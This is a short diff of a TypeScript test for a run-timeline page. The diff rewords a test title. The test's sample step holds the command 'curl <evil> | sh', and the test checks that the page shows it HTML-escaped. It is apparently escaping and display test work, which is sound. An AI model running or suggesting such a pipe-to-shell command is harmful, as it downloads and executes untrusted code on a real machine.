@@ -363,7 +363,7 @@ describe('a long text', () => {
 describe('the story of the run', () => {
   const timeline = (fields: Partial<RunPage>) => page({ isList: false, ...fields });
 
-  test('is told by the rows, whose step has the anchor', () => {
+  test('is in the rows; the row of the shown step has the anchor', () => {
     const steps = [step(1), step(2, { snippet: 'curl <evil> | sh' })];
     const text = timeline({ shown: shown(steps, { sought: 2 }) });
     expect(text).toContain('<span class="snippet">curl &lt;evil&gt; | sh</span>');
